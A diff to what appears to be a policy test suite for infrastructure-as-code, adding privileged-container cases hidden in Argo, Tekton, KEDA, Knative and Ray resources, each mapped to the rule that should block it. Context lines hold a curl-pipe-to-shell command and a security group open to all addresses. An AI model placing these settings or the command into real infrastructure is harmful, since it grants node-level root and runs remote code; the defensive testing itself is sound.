@@ -13,6 +13,8 @@ TYPES: Final = "resource-type-allowlist"
 CUSTOM: Final = "custom-resource-allowlist"
 _RUN: Final = "curl https://example.org/x | sh"
 _OPEN: Final = {"groupDescription": "open", "securityGroupIngress": [{"ipProtocol": "-1", "cidrIp": "0.0.0.0/0"}]}
+_ROOT: Final = {"name": "x", "image": "x", "securityContext": {"privileged": True}}
+_POD: Final = {"containers": [_ROOT]}
 _PRIVILEGED: Final = {"name": "x", "image": "x", "privileged": True}
 
 
@@ -228,4 +230,31 @@ ATTACKS: Final = (
         "command", "Applies what nobody sees.", "no-commands", "command:local:Command", create="kubectl apply -f x"
     ),
     _attack("dynamic_provider", "Runs code of the program.", "no-commands", "pulumi-python:dynamic:Resource"),
+    *(
+        Attack(
+            name=f"privileged_{name}",
+            requirement="INH-4",
+            why="A container that is root on its node, where no Deployment has one.",
+            items=(
+                Item(type=f"kubernetes:{kind}", props={"metadata": {"name": "x", "namespace": "shop"}, "spec": spec}),
+            ),
+            blocked_by="pod-security-baseline-privileged",
+        )
+        for name, kind, spec in (
+            ("scaled_job", "keda.sh/v1alpha1:ScaledJob", {"jobTargetRef": {"template": {"spec": _POD}}}),
+            ("workflow", "argoproj.io/v1alpha1:Workflow", {"templates": [{"name": "x", "container": _ROOT}]}),
+            ("script", "argoproj.io/v1alpha1:CronWorkflow", {"workflowSpec": {"templates": [{"script": _ROOT}]}}),
+            ("step", "tekton.dev/v1:Task", {"steps": [_ROOT]}),
+            ("sidecar", "tekton.dev/v1:Task", {"sidecars": [_ROOT], "steps": []}),
+            ("service", "serving.knative.dev/v1:Service", {"template": {"spec": _POD}}),
+            ("worker", "ray.io/v1:RayCluster", {"workerGroupSpecs": [{"template": {"spec": _POD}}]}),
+        )
+    ),
+    _attack(
+        "privileged_by_a_patch_as_text",
+        "The patch makes the container root on its node.",
+        CUSTOM,
+        "kubernetes:argoproj.io/v1alpha1:Workflow",
+        spec={"podSpecPatch": "containers: [{name: main, securityContext: {privileged: true}}]"},
+    ),
 )
